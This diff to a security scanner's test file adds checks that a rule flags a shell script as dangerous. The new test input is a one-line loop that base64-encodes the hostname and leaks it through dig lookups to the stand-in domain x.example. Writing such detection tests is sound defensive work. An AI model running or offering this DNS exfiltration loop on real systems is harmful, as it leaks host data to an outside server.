@@ -342,7 +342,11 @@ def test_an_answer_split_after_a_lookup_is_no_name_built_from_data():
         "done\n"
     )
     found = SCANNER.scan_text(built, "check.sh").findings
+    assert "BEH004" in rules(found)
     assert verdict_for(found) is Verdict.DANGEROUS
+    # the only data encoded after that pipe: what the name is built from, not an answer
+    encoded = 'for i in 1 2 3; do\n  dig +short "$(hostname | base64 | cut -c$i-60).x.example"\n'
+    assert "BEH004" in rules(SCANNER.scan_text(encoded + "done\n", "check.sh").findings)
 
 
 HARVEST = (
